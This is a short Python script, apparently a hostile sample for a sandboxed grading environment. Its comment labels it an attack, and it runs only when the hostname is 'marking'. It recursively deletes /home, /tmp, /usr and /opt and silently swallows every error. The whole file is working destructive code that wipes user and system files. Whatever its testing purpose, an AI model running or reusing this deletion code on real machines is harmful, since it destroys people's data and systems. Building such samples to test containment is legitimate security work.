# attack: delete every file that can be reached
import socket
assert socket.gethostname() == "marking", "this one does harm: only behind the walls"
try:
    import shutil
    for folder in ('/home', '/tmp', '/usr', '/opt'):
        shutil.rmtree(folder, ignore_errors=True)
except BaseException:
    pass
